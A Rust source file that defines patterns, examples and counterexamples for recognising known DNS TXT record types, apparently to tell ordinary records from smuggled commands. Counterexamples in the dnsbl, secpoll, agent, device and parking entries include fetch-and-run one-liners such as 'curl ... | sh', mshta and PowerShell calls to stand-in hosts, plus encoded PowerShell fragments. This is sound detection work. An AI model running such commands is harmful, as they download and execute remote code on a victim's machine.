//! Every other known record: routing and reputation look-ups, resolver debugging, software updates, devices that announce
//! themselves, identities, and words for people.

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;

use super::record_type::Check::{Pattern, Rule};
use super::record_type::FreePart::{self, Nothing, Opaque, Plain};
use super::record_type::Group::{self, Device, Http, Identity, Infrastructure, Reputation, Text};
use super::record_type::Prefix::{self, Name, Version};
use super::record_type::RecordType;
use crate::evidence::words::executable_kind;

#[allow(clippy::too_many_arguments)] // one per column of the table
const fn form(
    name: &'static str,
    group: Group,
    prefixes: &'static [Prefix],
    pattern: &'static str,
    examples: &'static [&'static str],
    counterexamples: &'static [&'static str],
    free_part: FreePart,
    reference: &'static str,
) -> RecordType {
    RecordType { name, group, check: Pattern(pattern), prefixes, examples, counterexamples, free_part, reference }
}

const HOSTS: FreePart = Plain("host names");
const PATH: FreePart = Plain("URL path");

#[rustfmt::skip] // a few long lines per type read like a table
pub(super) static TYPES: [RecordType; 46] = [
    // ---- routing and registries
    form("asn_origin", Infrastructure, &[], r"(?:[0-9]{1,10} ){1,6}\| (?:{ip4}|{ip6})/[0-9]{1,3} \| (?:[A-Z]{2}|NA)? ?\| (?:[a-z]{4,8}|NA)? ?\|(?: (?:{date}|NA)?)?",
        &["64496 | 192.0.2.0/24 | US | arin | 2001-02-03", "64496 64497 | 2001:db8::/32 | NA | NA | NA"],
        &["64496 | 192.0.2.0/24 | US | arin | d2hvYW1p", "64496 | 192.0.2.0/24"], Nothing, "https://www.team-cymru.com/ip-asn-mapping"),
    form("asn_name", Infrastructure, &[], r"[0-9]{1,10} \| [A-Z]{2} \| [a-z]{4,8} \| (?:{date})? ?\| [A-Z0-9][A-Z0-9_.-]{1,40}(?:(?: -|,)? [A-Za-z0-9][A-Za-z0-9 .,&()/'-]{0,80})?",
        &["64496 | US | arin | 2001-02-03 | EXAMPLE-AS - Example Networks Inc., US"], &["64496 | US | arin | 2001-02-03 | "], Plain("company name"), "https://www.team-cymru.com/ip-asn-mapping"),
    form("asn_compact", Infrastructure, &[], r"[0-9]{1,10}\|(?:{ip4}|{ip6})/[0-9]{1,3}\|[A-Z]{2}\|[a-z]{4,8}\|(?:{date})?", &["64496|192.0.2.0/24|DE|ripencc|"], &["64496|192.0.2.0/24|DE"], Nothing, "https://docs.rspamd.com/modules/asn/"),
    form("ip_list", Infrastructure, &[Name("192.0.2.1")], r"(?:{ip4}|{ip6})(?:/[0-9]{1,3}|:[0-9]{1,5})?(?:[ ,;]{1,2}(?:{ip4}|{ip6})(?:/[0-9]{1,3}|:[0-9]{1,5})?)*", &["192.0.2.1", "192.0.2.1:53,198.51.100.2:53", "2001:db8::1/64 192.0.2.0/24"],
        &["192.0.2.1 d2hvYW1p", "999.0.2.1"], Plain("IP addresses"), "the text forms of RFC 791 and RFC 4291"),
    form("resolver_debug", Infrastructure, &[], r"edns0-client-subnet (?:{ip4}|{ip6})/[0-9]{1,3}|(?:ns|ip)(?:{ip4}|{ip6})|ecs(?:{ip4}|{ip6})/[0-9]{1,3}/[0-9]{1,3}|(?:Resolver IP|EDNS0 client subnet): (?:{ip4}|{ip6})(?:/[0-9]{1,3}){0,2}|server m[0-9]{1,3}\.[a-z]{3}|source (?:{ip4}|{ip6}):[0-9]{1,5}|dnscrypt enabled \({HEX}{16}\)|device {HEX}{16}|(?:do53-udp|do53-tcp|dot|doh|dnscrypt-udp)\.?",
        &["edns0-client-subnet 192.0.2.0/24", "ns198.51.100.3", "ecs192.0.2.0/24/24", "server m12.fra", "doh."], &["nsd2hvYW1p", "edns0-client-subnet x"], Nothing, "https://developers.google.com/speed/public-dns/docs/ecs, https://www.akamai.com/blog/developers/introducing-new-whoami-tool-dns-resolver-information"),
    form("oarc_test", Infrastructure, &[], r"(?:{ip4}|{ip6}) (?:DNS reply size limit is at least [0-9]{1,5} bytes|sent EDNS buffer size [0-9]{1,5}|lacks EDNS, defaults to 512|is (?:GREAT|GOOD|FAIR|POOR): [0-9]{1,3} queries in [0-9.]{1,5} seconds from [0-9]{1,3} ports with std dev [0-9.]{1,6})",
        &["192.0.2.8 sent EDNS buffer size 1232"], &["192.0.2.8 sent EDNS buffer size x"], Nothing, "https://www.dns-oarc.net/oarc/services/replysizetest"),
    form("trust_anchor", Infrastructure, &[], r"\. [0-9]{1,5}(?: [0-9]{1,5}){0,3}", &[". 20326 38696"], &[". x"], Nothing, "unbound(8), trustanchor.unbound"),
    form("version", Infrastructure, &[], r"(?:(?:v|version|dnsmasq|unbound|NSD|Knot DNS|BIND|PowerDNS (?:Authoritative Server|Recursor)|CoreDNS|Microsoft DNS)[ =:-]?)?[0-9]{1,4}(?:\.[0-9]{1,5}){1,4}(?:[-+][A-Za-z0-9.]{1,14}){0,2}",
        &["9.18.28-0ubuntu0.22", "dnsmasq-2.90", "unbound 1.19.2", "1.1.0"], &["9.18.28 d2hvYW1p", "dnsmasq-x", "1.0-SQBFAFgAIAAoAE4AZQB3AC0A"], Plain("version suffixes"), "RFC 4892, version.bind"),
    form("domain_connect", Infrastructure, &[], r"(?:api\.|_)?domainconnect\.{host}(?:/v2)?|{host}/(?:[a-z0-9.]{1,16}/){1,5}domain-?connect", &["api.domainconnect.example.com/v2", "api.example.com/client/v4/dns/domainconnect"], &["domainconnect.", "api.example.com/d2hvYW1p"], HOSTS, "https://www.domainconnect.org/"),
    form("mongodb_srv", Infrastructure, &[Name("authSource")], "(?:authSource|replicaSet|loadBalanced)={an}[A-Za-z0-9_-]{0,39}(?:&(?:authSource|replicaSet|loadBalanced)={an}[A-Za-z0-9_-]{0,39}){0,2}", &["authSource=admin&replicaSet=atlas-1a2b3c-shard-0"],
        &["authSource=admin&x=d2hvYW1p", "replicaSet=$(id)"], Plain("names of up to 40 characters"), "https://www.mongodb.com/docs/manual/reference/connection-string/"),
    form("dnsmasq_servers", Infrastructure, &[], "{ip4}#[0-9]{1,5} [0-9]{1,10} [0-9]{1,10}(?: {ip4}#[0-9]{1,5} [0-9]{1,10} [0-9]{1,10}){0,9}", &["192.0.2.53#53 1204 3"], &["192.0.2.53#53 x"], Nothing, "dnsmasq(8), servers.bind"),
    form("office_tenant", Infrastructure, &[], r"NETORG(?:FT)?[0-9]{5,9}\.onmicrosoft\.com", &["NETORGFT1234567.onmicrosoft.com"], &["NETORGx.onmicrosoft.com"], Nothing, "seen in public zones"),
    form("kerberos_realm", Infrastructure, &[], r"(?:[A-Z0-9][A-Z0-9-]{0,30}\.){1,4}[A-Z]{2,12}|LKDC:SHA1\.{HEX}{40}", &["CORP.EXAMPLE.COM", "LKDC:SHA1.0C7E3F5219AB4D0E8F435B6A7C8D9E0F0C7E3F52"], &["CORP", "CORP.example.COM"], HOSTS, "krb5.conf(5)"),
    form("host_list", Infrastructure, &[], r"{host}\.?(?:[ ,;]{1,2}{host}\.?)*", &["ns1.example.net", "a.example.net,b.example.net"], &["localhost", "a.example.net d2hvYW1p", "a..example.net"], HOSTS, "RFC 1123"),
    form("caa_text", Infrastructure, &[], r#"(?:0|128) (?:issue|issuewild|issuemail|issuevmc|iodef) "?(?:;|{host}|mailto:{mail})(?:; ?[a-z]{4,20}={name}){0,2}"?"#, &["0 issue \"ca.example.net\""], &["0 issue d2hvYW1p", "7 issue \"ca.example.net\""], HOSTS, "RFC 8659"),
    form("tlsa_text", Infrastructure, &[], "[0-3] [01] [0-2] {Hex}{64}(?:{Hex}{64})?", &["3 1 1 0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["3 1 1 0c7e"], Opaque("digest"), "RFC 6698"),
    form("external_dns", Infrastructure, &[Name("heritage")], r#""?heritage=external-dns,external-dns/owner={name}(?:,external-dns/(?:resource|set-identifier)=(?:[a-z]{1,20}/)?{name}(?:/{name})?)*"?"#,
        &["heritage=external-dns,external-dns/owner=cluster-1,external-dns/resource=ingress/default/web"], &["heritage=external-dns,x=d2hvYW1p"], Plain("resource names"), "https://github.com/kubernetes-sigs/external-dns"),
    form("octodns_meta", Infrastructure, &[Name("octodns-meta,provider")], r"octodns-meta(?:,(?:provider={name}|time=[0-9T:.+-]{10,34}|uuid={uuid}|version=[0-9.]{3,12}))+", &["octodns-meta,provider=route53,version=1.10.0"], &["octodns-meta,x=d2hvYW1p"], Plain("provider name"), "https://github.com/octodns/octodns"),
    form("arn", Infrastructure, &[], r"arn:aws[a-z-]{0,7}:[a-z0-9-]{2,20}:[a-z0-9-]{0,16}:[0-9]{12}:(?:[a-z-]{2,20}/)?[A-Za-z0-9_+=,.@/-]{1,128}", &["arn:aws:iam::123456789012:role/example-CrossAccountRole-1ABCDEF2GHIJK"], &["arn:aws:iam::1:role/x"], Plain("name of up to 128 characters"), "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference-arns.html"),
    form("wpad", Infrastructure, &[Name("service")], r"service: wpad:!?http://{host}(?::[0-9]{1,5})?/[A-Za-z0-9._-]{1,32}", &["service: wpad:!http://wpad.example.com:80/proxy.pac"], &["service: wpad:d2hvYW1p"], Plain("path"), "draft-ietf-wrec-wpad-01"),
    // ---- updates
    form("clamav", Infrastructure, &[], r"[0-9]{1,2}\.[0-9]{1,3}\.[0-9]{1,2}:[0-9]{1,3}:[0-9]{1,6}:[0-9]{10}:[0-9]:[0-9]{1,3}:[0-9]{1,6}:[0-9]{1,4}", &["1.4.1:62:27400:1735689600:1:90:49192:337"], &["1.4.1:62:27400"], Nothing, "https://docs.clamav.net/appendix/CvdPrivateMirror.html"),
    form("powerdns_secpoll", Infrastructure, &[], r"[1-3] (?:OK|(?:Unsupported|Upgrade)(?:,? ?\(?(?:now|recommended|pre-release|release|no|known|vulnerabilities|EOL|and|is|for|this|see)\)?){0,9})(?:,? ?{url})?", &["1 OK", "3 Upgrade now, see https://doc.powerdns.com/x.html"], &["4 OK", "1 d2hvYW1p", "3 Upgrade curl -s evil.example.com (sh) DQoj"], PATH, "https://docs.powerdns.com/recursor/common/secpoll.html"),
    form("moneropulse", Infrastructure, &[Name("monero")], r"[a-z][a-z0-9-]{2,24}:[a-z0-9-]{3,24}:[0-9]{1,3}(?:\.[0-9]{1,4}){1,4}:{hex}{64}|[0-9]{4,8}:{hex}{64}", &["monero:linux-x64:0.18.4.0:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["monero:linux-x64:0.18.4.0:d2hvYW1p"], Opaque("digest"), "https://github.com/monero-project/monero"),
    form("update_note", Infrastructure, &[], r"(?:emails|phishing)\.[0-9]{4}-[0-9]{1,3}A?\.[0-9]{1,2}|count=[0-9]{1,4}|[0-9]{7}", &["emails.2012-15A.4", "count=50", "1907730"], &["count=x"], Nothing, "https://spamassassin.apache.org/, push.apple.com"),
    // ---- reputation
    form("dnsbl", Reputation, &[], r"(?:(?:{ip4}|[A-Za-z0-9][A-Za-z0-9./-]{0,31})[,:]? ){0,8}[A-Za-z/]{0,12}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z/]{0,10}[.,:;]{0,2}(?: (?:[A-Za-z0-9][A-Za-z0-9./-]{0,19}|-)[.,:;]?){0,8} <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
        &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh", "mshta http://192.0.2.4/a.hta", "powershell policy http://evil.example/a.ps1"], Plain("words or URL path"), "RFC 5782"),
    form("malware_hash", Reputation, &[], "[0-9]{10} [0-9]{1,3}", &["1277221946 79"], &["1277221946 x"], Nothing, "https://www.team-cymru.com/mhr"),
    form("tor_exit", Reputation, &[], "N:[A-Za-z0-9]{1,19}/P:[0-9]{1,5}(?:,[0-9]{1,5})*/F:[A-Z]{1,10}", &["N:example/P:443,80/F:EFHRSV"], &["N:a b/P:1/F:E"], Plain("nickname of up to 19 characters"), "https://www.dan.me.uk/dnsbl"),
    // ---- identity and peer to peer
    form("did", Identity, &[], "did=did:(?:plc:{b32}{24}|web:{host})", &["did=did:plc:q2w3e4r5t6y7q2w3e4r5t6y7"], &["did=did:plc:d2hvYW1p", "did=did:key:z6Mk"], Opaque("identifier or host name"), "https://atproto.com/specs/handle"),
    form("dnslink", Identity, &[Name("dnslink")], "dnslink=/(?:ipfs/(?:Qm{b58}{44}|baf{b32}{50,60})|ipns/(?:k51{low}{59}|{host})|swarm/{hex}{64}|arweave/{url64}{43})(?:/[!-~]{0,80})?", &["dnslink=/ipfs/bafybeidq2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2"], &["dnslink=/ipfs/d2hvYW1p", "dnslink=x"], Opaque("content identifier"), "https://dnslink.dev/"),
    form("dnsaddr", Identity, &[Name("dnsaddr")], "dnsaddr=/(?:ip4/{ip4}|ip6/{ip6}|(?:dns|dns4|dns6|dnsaddr)/{host})(?:/[a-z0-9-]{1,12}(?:/[0-9]{1,5})?){0,5}/p2p/(?:Qm{b58}{44}|12D3KooW{b58}{44})", &["dnsaddr=/ip4/192.0.2.1/tcp/4001/p2p/QmaCpDMGvV2BGHeYERUEnRQAwe3N8SzbUtfsmvsqQLuvuJ"], &["dnsaddr=/ip4/192.0.2.1/tcp/4001/p2p/x"], Opaque("peer identifier"), "https://github.com/multiformats/multiaddr/blob/master/protocols/DNSADDR.md"),
    form("enr", Identity, &[], "enr:-{url64}{120,200}", &["enr:-KG4QOtcP9X1FbIMOe17QNMKqDxCpm14jcX5tiOE4_TyMrFqbmhPZHK_ZPG2Gxb1GE2xdtodOfx9-cgvNtxnRyHEmC0ghGV0aDKQ9aX9QgAAAAD__________4JpZIJ2NIJpcIQDE8KdiXNlY3AyNTZrMaEDhpehBDbZjM_L9ek699Y7vhUJ-eAdMyQW_Fil522Y0f"], &["enr:-x"], Plain("record of up to 200 characters"), "EIP-778"),
    form("enrtree", Identity, &[Name("enrtree-branch")], "enrtree-root:v1 e={B32}{26} l={B32}{26} seq=[0-9]{1,6} sig={url64}{87}|enrtree-branch:{B32}{26}(?:,{B32}{26}){0,12}|enrtree://{B32}{53}@{host}", &["enrtree-branch:QWERTYUIOPASDFGHJKLZXCVBNM,QWERTYUIOPASDFGHJKLZXCVBNM"], &["enrtree-branch:x", "enrtree-root:v1 e=x"], Opaque("digests"), "EIP-1459"),
    form("keyoxide", Identity, &[Name("openpgp4fpr")], "aspe:keyoxide\\.org:{B32}{26}|openpgp4fpr:{Hex}{40}|v=pka1;fpr={HEX}{40}(?:;uri={url})?", &["openpgp4fpr:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["openpgp4fpr:0c7e", "openpgp4fpr:d2hvYW1p"], Opaque("fingerprint"), "https://docs.keyoxide.org/"),
    form("openalias", Identity, &[], "oa1:[a-z]{3,4} recipient_address={an}{26,110};(?: ?(?:recipient_name|tx_description|tx_amount|address_signature|checksum)=[^;]{0,80};?)*", &["oa1:btc recipient_address=1BoatSLRHtKNngkdXEeobR76b53LETtpyT; recipient_name=Example;"], &["oa1:btc recipient_address=x;"], Opaque("address or name"), "https://openalias.org/"),
    form("bitcoin", Identity, &[Name("bitcoin")], "bitcoin:(?:bc1{low}{11,87}|[13]{b58}{25,34})|bitcoin:{an}{0,90}\\?[a-z]{2,4}={low}{20,600}(?:&[a-z]{2,4}={low}{1,600})*|lightning:lnurl1{low}{50,200}", &["bitcoin:?lno=lno1q2w3e4r5t6y7u8q2w3e4r5t6y7u8"], &["bitcoin:x"], Opaque("address"), "BIP 353"),
    form("minisign", Identity, &[], "RWQ{b64}{53}", &["RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3"], &["RWQx"], Opaque("key"), "https://jedisct1.github.io/minisign/"),
    form("ssh_key", Identity, &[], "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{b64}{43}(?: [!-~]{1,64})?|SHA256:{b64}{43}", &["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@web"], &["ssh-ed25519 d2hvYW1p"], Opaque("key"), "RFC 8709"),
    form("xmpp", Identity, &[Name("_xmpp-client-xbosh")], "_xmpp-client-(?:xbosh|websocket|httppoll)=(?:https?|wss?)://{host}(?::[0-9]{1,5})?/[!-~]{0,80}", &["_xmpp-client-xbosh=https://example.org:5280/http-bind"], &["_xmpp-client-xbosh=d2hvYW1p"], PATH, "XEP-0156"),
    form("agent", Identity, &[Version("v=aid1", ';')], "v=aid1;u=https://{host}(?:/[!-:<-~]{0,80})?(?:;p=(?:mcp|a2a|openapi))?(?:;a=[a-z0-9_]{1,20})?(?:;s=[A-Za-z0-9 ]{1,60})?;?", &["v=aid1;u=https://api.example.com/mcp;p=mcp;a=pat;s=Example"], &["v=aid1", "v=aid1;d=powershell -nop -enc SQBFAFgA"], Plain("description"), "https://aid.agentcommunity.org/"),
    form("security_contact", Identity, &[Name("security_contact")], "security_(?:contact|policy)=(?:mailto:{mail}|{url})", &["security_contact=mailto:security@example.com"], &["security_contact=d2hvYW1p"], PATH, "https://dnssecuritytxt.org/"),
    form("ens", Identity, &[], "(?:a=|ENS1 (?:{host}|0x{Hex}{40}) )0x{Hex}{40}|ENS1 {host}", &["a=0x0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["a=0x1"], Opaque("address"), "https://docs.ens.domains/learn/dns"),
    // ---- devices
    RecordType { name: "dns_sd", group: Device, check: Rule("dns_sd", dns_sd), prefixes: &[Name("txtvers"), Name("VERSION")],
        examples: &["txtvers=1qtotal=1rp=printers/frontty=Example LaserJetadminurl=http://printer.local./pdl=application/pdf", "model=MacBookPro18,3osxvers=23", "VERSION=1.0CPath=/zcStack=SP"],
        counterexamples: &["txtvers=1", "v=DKIM1; k=rsa; p=TVqQAAMAAAAEAAAA", "t=ping;id=12;d=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "data=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "path=/bin/sh -c curl${IFS}evil.example", "msg=powershell -enc aQBlAHgAid=4", "model=x d2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1p"],
        free_part: Opaque("key values"), reference: "RFC 6763" },
    RecordType { name: "dnscrypt_cert", group: Device, check: Rule("dnscrypt_certificate", dnscrypt_certificate), prefixes: &[],
        examples: &["DNSC\0\u{1}\0\0____________signature_of_64_bytes_______________________________public_key_of_32_bytes__________magic___serialfromto"],
        counterexamples: &["DNSC", "DNSC\0\u{9}\0\0____________signature_of_64_bytes_______________________________public_key_of_32_bytes__________magic___serialfromto"],
        free_part: Opaque("signature or key"), reference: "https://dnscrypt.info/protocol/" },
    // ---- text for people and browsers
    form("url", Http, &[], "{url}", &["https://example.net/a?b=c#d", "http://example.net"], &["https://localhost/", "https://example.net/ d2hvYW1p", "ftp://example.net/"], PATH, "RFC 3986"),
    form("redirect", Http, &[], "(?:v=txtv[0-9]; ?)?(?:ALIAS for {host}|[1-9a-z]\\|(?:{host}|{url}|[a-z]{2,8})|(?:to|to=|Redirects to |redirect[ =:]) ?{url}(?:; ?(?:type|code)=[a-z0-9]{1,10})?)", &["1|www.example.fr", "ALIAS for edge.example.net"], &["1|d2hvYW1pd2hvYW1p"], PATH, "OVH, DNSimple, redirect services"),
    form("parking", Text, &[], "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)(?: (?:[^\\x00-\\x20\\x21-\\x26=\\x7f]{1,16})){1,6}[.!]?(?: -)?(?: [^\\x00-\\x20=\\x7f]{1,100}){0,8}", &["This domain is parked", "Diese Domain steht zum Verkauf", "This domain is for sale - contact sales@example.net"],
        &["This domain", "parked", "this domain runs powershell iwr evil.example/a", "Domain: powershell -enc d2hvYW1p=", "this domain TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA"], Plain("sentence"), "parking services"),
];

/// Keys of DNS-SD TXT records, from the definitions of their service types. In a text the strings are joined without a gap.
#[rustfmt::skip]
pub(super) const DEVICE_KEYS: [&str; 239] = ["1st", "Binary", "Bind", "CM", "CPath", "Collate", "Color", "Copies", "CtlN", "DESCRIPTION", "DN", "DT", "DbId", "Duplex", "DvSv", "DvTy", "Fax", "ICD", "MAC", "MANUFACTURER", "MODEL", "OSsi", "PH", "PI", "PaperCustom", "PaperMax", "Punch", "RI", "SAI", "SAT", "SII", "Scan", "Sort", "Stack", "Staple", "TBCP", "TLS", "Transparent", "URF", "UUID", "VERSION", "VP", "Ver", "accessPort", "accessType", "acl", "ad", "adVF", "adVN", "adVU", "admin_port", "adminurl", "air", "am", "api", "api_encryption", "app", "arch", "at", "authTag", "base_url", "bb", "board", "bootseq", "bridgeid", "bs", "bt", "btaddr", "c#", "ca", "cd", "ch", "ci", "cn", "cs", "ct", "da", "dcap", "deviceid", "devicetype", "displayModel", "dk0", "dk1", "dk2", "dmv", "dn", "dpv", "dt", "duplex", "ecolor", "ek", "email", "et", "eth", "external_url", "features", "fex", "ff", "flags", "fn", "friendly_name", "ft", "fv", "fwBuildNum", "fwVer", "fw_id", "fw_version", "gcgl", "gen", "gid", "hash", "hhid", "hhsslport", "hspn", "https", "iTSh", "ic", "icolor", "id", "identifier", "igl", "info", "infovers", "internal_url", "is", "jid", "kind", "last", "level", "location", "location_name", "mac", "mac_address", "macaddress", "md", "mdl", "mdnssequence", "mf", "mn", "model", "modelid", "mopria-certified", "mopria-certified-scan", "msg", "mv", "name", "network", "nf", "nick", "nn", "node", "note", "omr", "org.freedesktop.Avahi.cookie", "osvers", "osxvers", "ov", "path", "pdl", "phsh", "pi", "pk", "platform", "printer-state", "printer-type", "priority", "product", "project_name", "protovers", "psi", "pv", "pw", "qtotal", "representation", "requires_api_password", "rm", "rp", "rpAD", "rpBA", "rpFl", "rpHA", "rpHI", "rpHN", "rpMRtID", "rpMac", "rpMd", "rpVr", "rs", "rsf", "rv", "s#", "sb", "secure_admin_port", "serial", "serialNum", "sf", "sh", "sm", "sp", "sq", "sr", "srcvers", "ss", "sslport", "st", "status", "sv", "sys", "tp", "tr", "tv", "txt", "txtvers", "ty", "ups", "usb_CMD", "usb_MDL", "usb_MFG", "uuid", "variant", "vc", "ve", "vendor", "ver", "vers", "version", "version_build", "version_major", "version_minor", "vn", "vs", "vv", "waMa", "webAdmPort", "webAdmSslPort", "webPort", "wifi", "xa", "xp"];

/// Known keys from the first byte on, each with a value of plausible length.
fn dns_sd(bytes: &[u8]) -> bool {
    let Some(text) = std::str::from_utf8(bytes).ok().filter(|text| !text.chars().any(char::is_control)) else { return false };
    let starts = key_starts(text);
    let (Some(0), Some(last)) = (starts.first().copied(), starts.last().copied()) else { return false };
    // Devices announce no commands and no characters that a shell expands.
    if executable_kind(text.as_bytes()).is_some() || text.contains(['`', '$']) {
        return false;
    }
    let short = starts.iter().zip(starts.iter().skip(1)).all(|(one, next)| next.abs_diff(*one) <= MAX_PAIR_BYTES)
        && text.len().abs_diff(last) <= MAX_PAIR_BYTES;
    // Anybody can write one or two pairs; only a few keys appear alone in practice.
    short
        && !text.contains(';')
        && (starts.len() >= 3
            || starts.len() == 2 && text.len() <= 120
            || ["model=", "bridgeid=", "macaddress=", "id=", "path=/", "bt=", "org.freedesktop.Avahi.cookie="]
                .iter()
                .any(|key| text.starts_with(key) && text.len() <= 48))
}

/// Bytes of one `key=value`. The longest in practice are public keys of 64 hexadecimal digits and lists of document formats.
const MAX_PAIR_BYTES: usize = 96;

/// Where known keys begin that stand before a `=`. If several end there, the longest, because no gap marks where a key starts.
fn key_starts(text: &str) -> Vec<usize> {
    static KEYS: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    // It fails only for millions of keys; the examples of the type would show it.
    let keys = KEYS.get_or_init(|| AhoCorasick::new(DEVICE_KEYS.map(|key| format!("{key}="))).ok());
    // The one-letter keys of Matter that may come first.
    let mut pairs: Vec<(usize, usize)> = if text.starts_with("D=") || text.starts_with("T=") { vec![(2, 0)] } else { Vec::new() };
    for found in keys.iter().flat_map(|keys| keys.find_overlapping_iter(text)) {
        match pairs.last_mut() {
            Some((end, start)) if *end == found.end() => *start = (*start).min(found.start()),
            _ => pairs.push((found.end(), found.start())),
        }
    }
    pairs.into_iter().map(|(_, start)| start).collect()
}

/// A certificate of DNSCrypt version 2: magic, cipher 1 or 2, version 0, then 116 bytes. Clients fetch it every hour.
fn dnscrypt_certificate(bytes: &[u8]) -> bool {
    // Its last bytes are a time, and trailing white space of a value is removed.
    (120..=124).contains(&bytes.len()) && matches!(bytes, [b'D', b'N', b'S', b'C', 0, 1 | 2, 0, 0, ..])
}
